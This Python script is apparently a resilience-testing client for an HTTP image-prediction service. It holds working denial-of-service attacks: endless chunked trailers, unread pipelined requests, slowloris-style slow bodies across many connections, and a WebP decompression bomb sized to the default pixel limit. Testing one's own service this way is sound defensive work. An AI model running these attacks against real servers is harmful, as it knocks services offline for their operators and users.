"""Attack the guard for some seconds: `attack_client.py HOST KIND SECONDS`. Needs only the image.

Prints "attacking" when the first bytes are sent, and at the end the number of connections made.
"""

import io
import socket
import sys
import threading
import time
from contextlib import suppress

PORT = 8000
POST = b"POST /predict HTTP/1.1\r\nHost: guard\r\nContent-Type: image/webp\r\n"
SLOW_CONNECTIONS = 100
CONNECTIONS = 8
SIDE = 4564  # the default limit of WebP: 20.8 million pixels


def large_image() -> bytes:
    """Return a request with the most pixels that the default limit allows, in a small file."""
    from PIL import Image  # noqa: PLC0415 - the other attacks do not need it

    file = io.BytesIO()
    Image.new("RGBA", (SIDE, SIDE), (1, 2, 3, 128)).save(file, "WEBP", lossless=True, method=0)
    body = file.getvalue()
    return POST + b"Content-Length: %d\r\n\r\n" % len(body) + body


def send_without_end(connection: socket.socket, start: bytes, repeated: bytes) -> None:
    """Send, and read nothing, until the guard closes the connection or reads no more."""
    connection.sendall(start)
    piece = repeated * (65_536 // len(repeated))
    while True:
        connection.sendall(piece)


def trailers(connection: socket.socket) -> None:
    """Send trailers behind a request that is rejected."""
    chunked = POST.replace(b"POST", b"PUT") + b"Transfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n"
    send_without_end(connection, chunked, b"a: b\r\n")


def pipelining(connection: socket.socket) -> None:
    """Send requests whose responses are not read."""
    send_without_end(connection, b"", b"GET /models HTTP/1.1\r\nHost: guard\r\n\r\n")


def slow_body(connection: socket.socket) -> None:
    """Send one byte of a body, and wait until the guard closes the connection."""
    connection.settimeout(60)
    connection.sendall(POST + b"Content-Length: 1000\r\n\r\nx")
    while connection.recv(65_536):
        pass


def image_bomb(connection: socket.socket) -> None:
    """Send large images, one after the other."""
    while True:
        connection.sendall(LARGE)
        connection.recv(65_536)


ATTACKS = {
    "trailers": (trailers, CONNECTIONS),
    "pipelining": (pipelining, CONNECTIONS),
    "slow bodies": (slow_body, SLOW_CONNECTIONS),
    "large images": (image_bomb, CONNECTIONS),
}

host, kind, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
attack, connections = ATTACKS[kind]
LARGE = large_image() if kind == "large images" else b""
end = time.monotonic() + seconds
made = [0] * connections


def repeat(number: int) -> None:
    """Attack on one connection after the other until the time is over."""
    while time.monotonic() < end:
        with suppress(OSError), socket.create_connection((host, PORT), timeout=5) as connection:
            made[number] += 1
            attack(connection)
        time.sleep(0.01)


if LARGE:
    # The image must be decoded, not rejected for its size.
    with socket.create_connection((host, PORT), timeout=60) as connection:
        connection.sendall(LARGE)
        status = connection.recv(65_536).split(b" ")[1]
    if status != b"200":
        sys.exit(f"the status of a large image is {status.decode()}, expected 200")

sys.stdout.write("attacking\n")
sys.stdout.flush()
for number in range(connections):
    threading.Thread(target=repeat, args=(number,), daemon=True).start()
time.sleep(max(0, end - time.monotonic()))
sys.stdout.write(f"{sum(made)}\n")
